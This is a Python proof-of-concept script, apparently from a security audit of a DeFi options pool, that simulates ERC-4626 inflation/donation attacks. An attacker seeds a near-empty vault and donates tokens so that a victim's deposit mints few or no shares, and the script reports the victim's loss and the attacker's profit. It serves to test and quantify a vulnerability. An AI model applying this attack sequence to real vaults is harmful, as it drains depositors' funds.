"""A6 - inflation / donation attacks on a fresh pool (virtual offset 0: +1 share, +1 asset).

(i)  empty book, instant ERC-4626 path: the first depositor mints 1 base unit of shares,
     donates D, then the victim deposits a (ERC-4626 `deposit` has no min-shares argument).
(ii) open book, request path: the victim's `request_deposit` is quoted at the current NAV;
     between the request and its execution the attacker donates D, so the execution mints
     min(quoted, a*(S+1)/(NAV+D+1)) - the victim cannot cancel and has no slippage bound.
For each: the attacker's profit (negative = cost) and the victim's loss, base units shown
in quote units; plus the "refund" edge (D large enough that the shares round to 0).
"""

import boa

from common import ETH, WAD, addr, approve_pool, fmt, open_vault, try_call, value
from ringfence.risk_table import DAY, deploy_core, oracle_deployer


def fresh():
    proto = deploy_core(lambda e: oracle_deployer().deploy(), 6, 30, 5 * WAD, None, 0)
    proto.oracle.set_price(ETH, 2000 * WAD)
    proto.oracle.set_vol(ETH, proto.expiry, 8 * 10**17)
    with boa.env.prank(proto.governance):
        for k in (2000, 2200):
            for c in (True, False):
                proto.series[(k, c)] = proto.registry.list_series(
                    ETH, k * WAD, proto.expiry, c, 10_000 * WAD
                )
    return proto


ATT, VIC, TR = addr("attacker"), addr("victim"), addr("trader")


def instant(proto, donation, a):
    pool, tok = proto.pool, proto.token
    for x in (ATT, VIC):
        tok.mint(x, proto.units(200_000_000))
        approve_pool(proto, x)
    w0 = tok.balanceOf(ATT)
    pool.deposit(1, ATT, sender=ATT)
    tok.transfer(pool.address, donation, sender=ATT)
    ok, shares = try_call(lambda: pool.deposit(a, VIC, sender=VIC))
    if not ok:
        return f"victim deposit reverts ({shares})"
    pool.redeem(pool.balanceOf(ATT), ATT, ATT, sender=ATT)
    att = tok.balanceOf(ATT) - w0
    loss = a - value(proto, VIC)
    return f"victim shares {shares}, victim loss {fmt(proto, loss)}, attacker P&L {fmt(proto, att)}"


def requested(proto, donation, a):
    pool, tok = proto.pool, proto.token
    for x in (ATT, VIC):
        tok.mint(x, proto.units(200_000_000))
        approve_pool(proto, x)
    proto.fund(TR, proto.units(100_000))
    w0 = tok.balanceOf(ATT)
    pool.deposit(proto.units(1_000), ATT, sender=ATT)  # small seed, 1,000 shares
    pid = open_vault(proto, TR, [(2200, True, 1)], 2_000)  # a tiny book: requests only
    rid = pool.request_deposit(a, VIC, sender=VIC)
    quoted = pool.requests(rid).quoted
    tok.transfer(pool.address, donation, sender=ATT)  # within the hour
    boa.env.time_travel(seconds=3600)
    shares = pool.execute_request(rid)
    refunded = pool.get_logs()[-1].refunded
    # attacker leaves once the book is empty again
    with boa.env.prank(TR):
        proto.ch.close_position(pid, proto.units(10**7))
    pool.redeem(pool.balanceOf(ATT), ATT, ATT, sender=ATT)
    att = tok.balanceOf(ATT) - w0
    if refunded:
        return f"quoted {quoted / 1e6:,.0f} sh, refunded (victim loses 0), attacker P&L {fmt(proto, att)}"
    loss = a - value(proto, VIC)
    return (f"quoted {quoted / 1e6:,.2f} sh, minted {shares / 1e6:,.6f} sh, victim loss "
            f"{fmt(proto, loss)}, attacker P&L {fmt(proto, att)}")


if __name__ == "__main__":
    a = 10**6 * 100_000  # the victim's 100,000
    print("(i) empty book, instant: attacker 1 base unit + donation D; victim deposits 100,000")
    for d in (50_000, 100_000, 150_000, 199_999):
        with boa.env.anchor():
            print(f"  D={d:>8,}: {instant(fresh(), 10**6 * d, a)}")
    print("(ii) open book, request: attacker seeds 1,000, victim requests 100,000, attacker donates D")
    for d in (1_000_000, 10_000_000, 50_000_000, 150_000_000):
        with boa.env.anchor():
            print(f"  D={d:>11,}: {requested(fresh(), 10**6 * d, a)}")
